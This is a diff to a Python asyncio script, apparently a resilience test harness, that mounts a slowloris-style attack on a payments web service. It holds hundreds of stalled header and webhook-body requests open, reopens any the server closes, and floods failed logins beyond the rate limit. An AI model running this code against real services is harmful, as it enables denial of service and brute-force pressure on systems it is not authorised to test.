@@ -9,8 +9,8 @@ normal client's measurements inside the caller's event loop:
 
 - `connections` sockets from the `source` address: half stall inside the request headers,
   half inside a small body to `POST /api/payments/webhooks/psp` (no token needed); each sends
-  one more byte every `interval` seconds. A socket the server closes is opened again after a
-  pause (an attacker keeps up the pressure), at most once per `interval` per slot.
+  one more byte every `interval` seconds. A socket the server closes is opened again after
+  `reopen` seconds (an attacker keeps up the pressure, as slowloris does).
 - `logins` failed logins from the same address, spread over the attack (10x the default
   `AUTH_RATE_LIMIT_MAX` of 10 per minute by default).
 - Prints `READY <open>` once every socket has been opened once, then a JSON summary at the end:
@@ -27,11 +27,14 @@ import argparse
 import asyncio
 import contextlib
 import json
+import os
+import re
 import resource
 import sys
 import time
 from collections import Counter
 from dataclasses import dataclass, field
+from typing import cast
 from urllib.parse import urlsplit
 
 import httpx
@@ -60,80 +63,112 @@ class AttackStats:
     opened: int = 0
     closed_by_server: int = 0
     connect_errors: int = 0
-    answers: Counter[str] = field(default_factory=Counter)  # status lines seen on stalled sockets
+    answers: Counter[str] = field(default_factory=Counter)  # statuses seen on stalled sockets
     logins: Counter[str] = field(default_factory=Counter)
-    open_now: int = 0
     peak_open: int = 0
 
 
+_STATUS = re.compile(rb"HTTP/1\.1 (\d{3}) ")
+
+
+class Stalled(asyncio.Protocol):
+    """One stalled request: its head is sent at once, then one byte per drip, never the end."""
+
+    def __init__(self, attack: Attack, slot: int) -> None:
+        self.attack = attack
+        self.slot = slot
+        self.transport: asyncio.Transport | None = None
+
+    def connection_made(self, transport: asyncio.BaseTransport) -> None:
+        self.transport = cast(asyncio.Transport, transport)  # uvloop's is not a subclass
+        transport = self.transport
+        transport.write(self.attack.heads[self.slot % 2])
+        self.attack.opened(self)
+
+    def data_received(self, data: bytes) -> None:
+        for status in _STATUS.findall(data):
+            self.attack.stats.answers[status.decode()] += 1
+
+    def connection_lost(self, exc: Exception | None) -> None:
+        self.attack.lost(self)
+
+
 class Attack:
-    def __init__(self, host: str, port: int, source: str, interval: float, stop_at: float) -> None:
+    """`connections` slots, each holding one stalled request open; a slot whose connection the
+    server closed is opened again after `reopen` seconds (slowloris keeps its count up the same
+    way), until `stop_at`. Protocols, not streams, and one drip pass for all sockets: the
+    attacker shares the machine with what it attacks and must cost little itself."""
+
+    def __init__(self, host: str, port: int, source: str, reopen: float, stop_at: float) -> None:
         self.host = host
         self.port = port
         self.source = source
-        self.interval = interval
+        self.reopen = reopen
         self.stop_at = stop_at
         self.stats = AttackStats()
+        self.open: set[Stalled] = set()
+        self.stopping = False
+        self.pending = 0  # connects under way
+        self.tasks: set[asyncio.Task[None]] = set()
+        self.heads = (
+            f"GET /api/payments HTTP/1.1\r\nHost: {host}\r\nX-Pad: ".encode(),
+            (
+                f"POST {WEBHOOK} HTTP/1.1\r\nHost: {host}\r\n"
+                f"Content-Type: application/json\r\nContent-Length: {BODY_SIZE}\r\n\r\n{{"
+            ).encode(),
+        )
+        self.drips = (b"a", b" ")  # a header that never ends; a body that never ends
 
-    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
-        return await asyncio.open_connection(self.host, self.port, local_addr=(self.source, 0))
+    def spawn(self, slot: int) -> None:
+        task = asyncio.get_running_loop().create_task(self.connect(slot))
+        self.tasks.add(task)
+        task.add_done_callback(self.tasks.discard)
 
-    async def stall(self, slot: int, in_body: bool, first: asyncio.Event) -> None:
-        """One slot: a request that never completes, one byte per interval, reopened if closed."""
+    async def connect(self, slot: int) -> None:
+        loop = asyncio.get_running_loop()
+        self.pending += 1
+        try:
+            await loop.create_connection(
+                lambda: Stalled(self, slot),
+                self.host,
+                self.port,
+                local_addr=(self.source, 0),
+            )
+        except OSError:
+            self.stats.connect_errors += 1
+            self.schedule(slot)
+        finally:
+            self.pending -= 1
+
+    def opened(self, protocol: Stalled) -> None:
+        self.stats.opened += 1
+        self.open.add(protocol)
+        self.stats.peak_open = max(self.stats.peak_open, len(self.open))
+
+    def lost(self, protocol: Stalled) -> None:
+        self.open.discard(protocol)
+        if not self.stopping:
+            self.stats.closed_by_server += 1
+            self.schedule(protocol.slot)
+
+    def schedule(self, slot: int) -> None:
+        loop = asyncio.get_running_loop()
+        if not self.stopping and loop.time() + self.reopen < self.stop_at:
+            loop.call_later(self.reopen, self.spawn, slot)
+
+    async def drip(self, interval: float) -> None:
         loop = asyncio.get_running_loop()
         while loop.time() < self.stop_at:
-            try:
-                reader, writer = await self.connect()
-            except OSError:
-                self.stats.connect_errors += 1
-                first.set()
-                await asyncio.sleep(self.interval)
-                continue
-            self.stats.opened += 1
-            self.stats.open_now += 1
-            self.stats.peak_open = max(self.stats.peak_open, self.stats.open_now)
-            first.set()
-            try:
-                await self._trickle(reader, writer, in_body)
-            finally:
-                self.stats.open_now -= 1
-                writer.close()
-                with contextlib.suppress(Exception):
-                    await writer.wait_closed()
-            await asyncio.sleep(self.interval)  # pause before reopening: bounded pressure
+            await asyncio.sleep(interval)
+            for protocol in list(self.open):
+                if protocol.transport is not None and not protocol.transport.is_closing():
+                    protocol.transport.write(self.drips[protocol.slot % 2])
 
-    async def _trickle(
-        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, in_body: bool
-    ) -> None:
-        loop = asyncio.get_running_loop()
-        if in_body:
-            head = (
-                f"POST {WEBHOOK} HTTP/1.1\r\nHost: {self.host}\r\n"
-                f"Content-Type: application/json\r\nContent-Length: {BODY_SIZE}\r\n\r\n{{"
-            ).encode()
-            drip = b" "
-        else:
-            head = f"GET /api/payments HTTP/1.1\r\nHost: {self.host}\r\nX-Pad: ".encode()
-            drip = b"a"
-        try:
-            writer.write(head)
-            await writer.drain()
-            sent = 0
-            while loop.time() < self.stop_at and sent < BODY_SIZE - 2:
-                try:
-                    line = await asyncio.wait_for(reader.readline(), self.interval)
-                except TimeoutError:
-                    writer.write(drip)
-                    await writer.drain()
-                    sent += 1
-                    continue
-                if not line:  # closed by the server
-                    self.stats.closed_by_server += 1
-                    return
-                if line.startswith(b"HTTP/1.1 "):
-                    self.stats.answers[line[9:12].decode()] += 1
-        except (OSError, asyncio.IncompleteReadError):
-            self.stats.closed_by_server += 1
+    def close(self) -> None:
+        self.stopping = True
+        for protocol in list(self.open):
+            if protocol.transport is not None:
+                protocol.transport.abort()
 
     async def login(self, index: int) -> None:
         body = json.dumps({"email": f"nobody{index}@example.com", "password": "Wrong-pass1!"})
@@ -143,7 +178,9 @@ class Attack:
             f"Connection: close\r\n\r\n{body}"
         ).encode()
         try:
-            reader, writer = await self.connect()
+            reader, writer = await asyncio.open_connection(
+                self.host, self.port, local_addr=(self.source, 0)
+            )
             writer.write(request)
             await writer.drain()
             status = await asyncio.wait_for(reader.readline(), 15)
@@ -154,27 +191,35 @@ class Attack:
 
 
 async def attack(
-    target: str, source: str, connections: int, seconds: float, logins: int, interval: float
+    target: str,
+    source: str,
+    connections: int,
+    seconds: float,
+    logins: int,
+    interval: float,
+    reopen: float,
 ) -> AttackStats:
     url = urlsplit(target)
     loop = asyncio.get_running_loop()
-    runner = Attack(url.hostname or "127.0.0.1", url.port or 80, source, interval, 0.0)
+    runner = Attack(url.hostname or "127.0.0.1", url.port or 80, source, reopen, 0.0)
     runner.stop_at = loop.time() + seconds
-    firsts = [asyncio.Event() for _ in range(connections)]
-    slots = []
     for slot in range(connections):
-        slots.append(asyncio.create_task(runner.stall(slot, slot % 2 == 1, firsts[slot])))
+        runner.spawn(slot)
         if slot % 50 == 49:
             await asyncio.sleep(0.01)  # a fast ramp, not one burst of SYNs
-    await asyncio.gather(*(event.wait() for event in firsts))
-    print(f"READY {runner.stats.open_now}", flush=True)
+    while runner.pending:
+        await asyncio.sleep(0.01)
+    print(f"READY {len(runner.open)}", flush=True)
+    dripping = loop.create_task(runner.drip(interval))
     flood = []
     spread = max(0.0, runner.stop_at - loop.time() - 2) / max(1, logins)
     for index in range(logins):
-        flood.append(asyncio.create_task(runner.login(index)))
+        flood.append(loop.create_task(runner.login(index)))
         await asyncio.sleep(spread)
     await asyncio.gather(*flood)
-    await asyncio.gather(*slots)
+    await dripping
+    runner.close()
+    await asyncio.sleep(0.1)
     return runner.stats
 
 
@@ -225,6 +270,9 @@ def main(argv: list[str] | None = None) -> None:
     parser.add_argument("--seconds", type=float, default=20.0)
     parser.add_argument("--logins", type=int, default=100)
     parser.add_argument("--interval", type=float, default=1.0, help="seconds between bytes")
+    parser.add_argument(
+        "--reopen", type=float, default=2.0, help="seconds before a closed slot is reopened"
+    )
     args = parser.parse_args(argv)
     raise_open_files(args.connections + 256)
     try:
@@ -234,11 +282,20 @@ def main(argv: list[str] | None = None) -> None:
     except ImportError:  # pragma: no cover - uvloop is a dependency of the project
         pass
     stats = asyncio.run(
-        attack(args.target, args.source, args.connections, args.seconds, args.logins, args.interval)
+        attack(
+            args.target,
+            args.source,
+            args.connections,
+            args.seconds,
+            args.logins,
+            args.interval,
+            args.reopen,
+        )
     )
     summary = {
         "opened": stats.opened,
         "peak_open": stats.peak_open,
+        "cpu_seconds": round(sum(os.times()[:2]), 2),
         "closed_by_server": stats.closed_by_server,
         "connect_errors": stats.connect_errors,
         "answers": dict(stats.answers),
